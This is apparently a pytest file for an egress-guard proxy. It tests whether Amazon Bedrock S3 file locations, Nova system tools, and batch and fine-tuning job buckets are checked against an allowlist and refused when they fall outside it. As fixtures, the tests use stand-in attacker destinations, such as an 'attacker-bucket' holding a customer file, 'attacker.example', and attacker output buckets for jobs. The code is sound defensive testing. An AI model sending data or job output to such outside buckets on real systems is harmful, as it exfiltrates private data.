"""What Amazon Bedrock fetches for the agent: a file given by its place in S3 (an image, document or video
``s3Location``), read as the bucket's own address and checked against the agent's egress allowlist, and a
tool Bedrock runs itself (``systemTool``): Nova's web grounding reaches whatever the model picks and is
refused, its code interpreter is gated as a server tool. Read by unit, then end to end through a real
egressguard in enforce mode with boto3."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from proxy.detectors.tools import PROVIDER_FETCH_RULE
from proxy.dialects import BedrockConverse
from proxy.exchange import DeclaredTool, Fetch
from tests.harness import Proxy
from tests.test_e2e_bedrock import answer
from tests.test_e2e_declared_tools import refusals
from tests.test_e2e_inspect import last_record
from tests.test_e2e_provider_fetch import fetches_of
from tests.test_e2e_provider_routes import bedrock_client
from tests.upstream import FakeUpstream, Reply

MODEL = "us.amazon.nova-premier-v1:0"
ALLOWED = "s3://corp-docs/reports/q3.pdf"
OUTSIDE = "s3://attacker-bucket/c/customer-row-jane-doe.png"


def s3(kind: str, uri: object, **fields: Any) -> dict[str, Any]:
    return {kind: {"format": "png", **fields, "source": {"s3Location": {"uri": uri}}}}


def ask(*blocks: dict[str, Any]) -> list[dict[str, Any]]:
    return [{"role": "user", "content": [{"text": "what does it show?"}, *blocks]}]


def test_files_in_s3_are_read_as_addresses_the_api_fetches() -> None:
    body = {
        "messages": [
            *ask(
                s3("image", OUTSIDE),
                s3("document", ALLOWED, name="q3"),
                {"image": {"source": {"bytes": "iVBO"}}},
            ),
            {"role": "assistant", "content": [{"toolUse": {"toolUseId": "t", "name": "look", "input": {}}}]},
            {
                "role": "user",
                "content": [{"toolResult": {"toolUseId": "t", "content": [s3("video", "S3://Clips/a.mp4")]}}],
            },
            *ask(s3("image", "https://attacker.example/x.png"), s3("image", None)),
        ]
    }
    assert fetches_of(BedrockConverse(), body) == [
        Fetch(
            "messages[0].content[1].image.source.s3Location.uri",
            "https://attacker-bucket.s3.amazonaws.com/c/customer-row-jane-doe.png",
            "image in S3",
        ),
        Fetch(
            "messages[0].content[2].document.source.s3Location.uri",
            "https://corp-docs.s3.amazonaws.com/reports/q3.pdf",
            "document in S3",
        ),
        Fetch(
            "messages[2].content[0].toolResult.content[0].video.source.s3Location.uri",
            "https://Clips.s3.amazonaws.com/a.mp4",
            "video in S3",
        ),
        # No S3 URI: no address an allowlist allows.
        Fetch("messages[3].content[1].image.source.s3Location.uri", "", "image in S3"),
        Fetch("messages[3].content[2].image.source.s3Location.uri", "", "image in S3"),
    ]


def test_a_system_tool_is_declared_and_web_grounding_fetches_any_address() -> None:
    body = {
        "messages": ask(),
        "toolConfig": {
            "tools": [
                {"systemTool": {"name": "nova_grounding"}},
                {"systemTool": {"name": "nova_code_interpreter"}},
                {"toolSpec": {"name": "nova_grounding", "inputSchema": {"json": {"type": "object"}}}},
                {"cachePoint": {"type": "default"}},
            ]
        },
    }
    view = BedrockConverse().parse_request(json.dumps(body).encode())
    assert view.fetches == [Fetch("toolConfig.tools[0].systemTool", None, "nova_grounding")]
    assert view.declared_tools == [
        DeclaredTool("nova_grounding", "toolConfig.tools[0].systemTool"),
        DeclaredTool("nova_code_interpreter", "toolConfig.tools[1].systemTool"),
    ]
    # On invoke, Nova's own body is Converse's.
    invoke = {"schemaVersion": "messages-v1", **body}
    assert fetches_of(BedrockConverse(model_hint="amazon.nova-pro-v1:0"), invoke) == view.fetches


@pytest.fixture
def enforce(start_proxy: Callable[..., Proxy]) -> Proxy:
    return start_proxy(mode="enforce", allow="['localhost:*', corp-docs.s3.amazonaws.com]")


def test_bedrock_fetches_outside_the_allowlist_are_refused_and_those_within_it_pass(
    enforce: Proxy, upstream: FakeUpstream
) -> None:
    sdk = bedrock_client(enforce, upstream)
    from botocore.exceptions import ClientError

    grounding = {"tools": [{"systemTool": {"name": "nova_grounding"}}]}
    refused: list[dict[str, Any]] = [
        {"messages": ask(s3("image", OUTSIDE))},
        {"messages": ask(s3("document", ALLOWED, name="q3")), "toolConfig": grounding},
    ]
    for request in refused:
        with pytest.raises(ClientError) as raised:
            sdk.converse(modelId=MODEL, **request)
        assert raised.value.response["Error"]["Code"] == "AccessDeniedException"
    assert upstream.received == []
    assert [refusals(last_record(enforce, count)) for count in (1, 2)] == [
        [
            (
                "lateral_movement",
                PROVIDER_FETCH_RULE,
                "messages[0].content[1].image.source.s3Location.uri",
                True,
            )
        ],
        [("lateral_movement", PROVIDER_FETCH_RULE, "toolConfig.tools[0].systemTool", True)],
    ]
    upstream.reply = answer({"text": "Revenue rose."})
    interpreter = {"tools": [{"systemTool": {"name": "nova_code_interpreter"}}]}
    sdk.converse(modelId=MODEL, messages=ask(s3("document", ALLOWED, name="q3")), toolConfig=interpreter)
    sent = json.loads(upstream.received[-1].body)
    assert sent["messages"][0]["content"][1]["document"]["source"] == {"s3Location": {"uri": ALLOWED}}
    assert sent["toolConfig"] == interpreter
    assert refusals(last_record(enforce, 3)) == []


def test_a_model_invocation_jobs_buckets_are_checked_against_the_allowlist(
    enforce: Proxy, upstream: FakeUpstream
) -> None:
    """A batch job Bedrock runs later reads its input from a bucket and writes its output to one: each is
    a destination of the agent's, the output one outside the allowlist refused."""
    sdk = bedrock_client(enforce, upstream, "bedrock")
    from botocore.exceptions import ClientError

    def job(output: str) -> Any:
        return sdk.create_model_invocation_job(
            jobName="nightly",
            roleArn="arn:aws:iam::123456789012:role/batch",
            modelId=MODEL,
            inputDataConfig={"s3InputDataConfig": {"s3Uri": "s3://corp-docs/batch/in.jsonl"}},
            outputDataConfig={"s3OutputDataConfig": {"s3Uri": output}},
        )

    with pytest.raises(ClientError) as raised:
        job("s3://attacker-bucket/out/")
    assert raised.value.response["ResponseMetadata"]["HTTPStatusCode"] == 403
    assert upstream.received == []
    assert refusals(last_record(enforce)) == [
        ("lateral_movement", PROVIDER_FETCH_RULE, "outputDataConfig.s3OutputDataConfig.s3Uri", True)
    ]
    arn = "arn:aws:bedrock:us-east-1:123456789012:model-invocation-job/abc"
    upstream.reply = Reply(body=json.dumps({"jobArn": arn}).encode())
    assert job("s3://corp-docs/batch/out/")["jobArn"] == arn
    assert refusals(last_record(enforce, 2)) == []


def test_a_model_customization_jobs_data_and_output_are_checked_against_the_allowlist(
    enforce: Proxy, upstream: FakeUpstream
) -> None:
    """A fine-tuning job Bedrock runs later reads its training and validation data from S3 and writes
    the model's metrics to S3: each location is a destination of the agent's, as a batch job's are."""
    sdk = bedrock_client(enforce, upstream, "bedrock")
    from botocore.exceptions import ClientError

    def job(validation: str, output: str) -> Any:
        return sdk.create_model_customization_job(
            jobName="tune",
            customModelName="support-tuned",
            roleArn="arn:aws:iam::123456789012:role/tune",
            baseModelIdentifier=MODEL,
            trainingDataConfig={"s3Uri": "s3://corp-docs/tune/train.jsonl"},
            validationDataConfig={"validators": [{"s3Uri": validation}]},
            outputDataConfig={"s3Uri": output},
            hyperParameters={"epochCount": "1"},
        )

    with pytest.raises(ClientError) as raised:
        job("s3://attacker-bucket/v.jsonl", "s3://attacker-bucket/out/")
    assert raised.value.response["ResponseMetadata"]["HTTPStatusCode"] == 403
    assert upstream.received == []
    assert refusals(last_record(enforce)) == [
        ("lateral_movement", PROVIDER_FETCH_RULE, "validationDataConfig.validators[0].s3Uri", True),
        ("lateral_movement", PROVIDER_FETCH_RULE, "outputDataConfig.s3Uri", True),
    ]
    arn = "arn:aws:bedrock:us-east-1:123456789012:model-customization-job/abc"
    upstream.reply = Reply(body=json.dumps({"jobArn": arn}).encode())
    assert job("s3://corp-docs/tune/v.jsonl", "s3://corp-docs/tune/out/")["jobArn"] == arn
    sent = json.loads(upstream.received[-1].body)
    assert sent["trainingDataConfig"] == {"s3Uri": "s3://corp-docs/tune/train.jsonl"}
    assert refusals(last_record(enforce, 2)) == []
